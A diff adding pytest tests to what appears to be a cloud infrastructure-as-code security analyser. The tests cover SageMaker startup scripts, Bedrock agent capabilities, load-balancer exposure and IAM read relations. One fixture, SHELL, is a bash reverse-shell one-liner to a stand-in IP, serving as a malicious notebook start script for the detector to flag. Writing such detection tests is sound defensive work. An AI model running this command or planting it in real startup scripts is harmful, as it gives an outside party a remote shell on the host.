@@ -172,3 +172,73 @@ def test_an_overlay_opens_the_service_of_its_base_and_a_stranger_does_not() -> N
 def test_what_refers_to_itself_comes_to_an_end() -> None:
     text = 'locals {\n  a = "${local.b}x"\n  b = "${local.a}y"\n}\nmodule "m" {\n  source = "./."\n  v = var.v\n}\nvariable "v" {\n  default = "d"\n}\nresource "aws_s3_bucket" "b" {\n  bucket = local.a\n  acl = var.v\n}\n'
     assert _asset(_graph(("main.tf", text)), "aws_s3_bucket.b").attributes["engine"] == "s3"
+
+
+LAB = ("lab/main.tf", """
+resource "aws_sagemaker_notebook_instance_lifecycle_configuration" "boot" {
+  on_start = filebase64("${path.module}/scripts/start.sh")
+}
+
+resource "aws_sagemaker_notebook_instance" "desk" {
+  lifecycle_config_name = aws_sagemaker_notebook_instance_lifecycle_configuration.boot.name
+}
+""")  # fmt: skip
+SHELL = "#!/bin/bash\nbash -i >& /dev/tcp/203.0.113.7/443 0>&1\n"
+
+
+def test_a_start_script_may_lie_in_a_file_beside_the_code() -> None:
+    desk = "aws_sagemaker_notebook_instance.desk"
+    assert "startup_flaw" in _asset(_graph(LAB, ("lab/scripts/start.sh", SHELL)), desk).attributes
+    assert "startup_flaw" not in _asset(_graph(LAB, ("other/scripts/start.sh", SHELL)), desk).attributes
+
+
+def test_what_an_agent_may_call_is_read_from_the_interface_beside_the_code() -> None:
+    group = (
+        "main.tf",
+        'resource "aws_bedrockagent_action_group" "x" {}\nresource "aws_bedrockagent_agent_action_group" "tours" {\n  agent_id = "A1"\n  action_group_name = "tours"\n  api_schema {\n    payload = file("${path.module}/tours.yaml")\n  }\n}\n',
+    )
+    reads = "openapi: 3.0.1\npaths:\n  /tours:\n    get:\n      operationId: listTours\n"
+    name = "aws_bedrockagent_agent_action_group.tours"
+    gone = _asset(_graph(group, ("tours.yaml", reads + "    delete:\n      operationId: clear\n")), name)
+    assert gone.attributes["likely_capabilities"] == ["destroys"]
+    assert "likely_capabilities" not in _asset(_graph(group, ("tours.yaml", reads)), name).attributes
+
+
+@pytest.mark.parametrize(("internal", "exposure"), [("false", "public"), ("true", "organisation")])
+def test_a_service_behind_a_balancer_is_as_open_as_the_balancer(internal: str, exposure: str) -> None:
+    service = (
+        "main.tf",
+        f"""
+resource "aws_ecs_task_definition" "ask" {{
+  container_definitions = jsonencode([{{ name = "web", environment = [{{ name = "OPENAI_BASE_URL", value = "x" }}] }}])
+}}
+resource "aws_ecs_service" "ask" {{
+  task_definition = aws_ecs_task_definition.ask.arn
+  load_balancer {{ target_group_arn = aws_lb_target_group.ask.arn }}
+}}
+resource "aws_lb_target_group" "ask" {{ port = 80 }}
+resource "aws_lb" "front" {{ internal = {internal} }}
+resource "aws_lb_listener" "front" {{
+  load_balancer_arn = aws_lb.front.arn
+  default_action {{ target_group_arn = aws_lb_target_group.ask.arn }}
+}}
+""",
+    )
+    assert _asset(_graph(service), "aws_ecs_task_definition.ask").exposure == exposure
+
+
+def test_a_bucket_is_meant_whatever_the_partition() -> None:
+    stack = """
+Resources:
+  Bucket: {Type: "AWS::S3::Bucket", Properties: {BucketName: lab-models}}
+  Role:
+    Type: AWS::IAM::Role
+    Properties:
+      Policies:
+        - PolicyDocument: {Statement: [{Effect: Allow, Action: "s3:Get*", Resource: !Sub "arn:${AWS::Partition}:s3:::lab-models/*"}]}
+  Desk: {Type: "AWS::SageMaker::NotebookInstance", Properties: {RoleArn: !GetAtt Role.Arn}}
+"""
+    graph = _graph(("stack.yaml", stack))
+    assert ("Role", "can_read", "Bucket") in {
+        (graph.asset(each.source).name, str(each.kind), graph.asset(each.target).name) for each in graph.relations
+    }
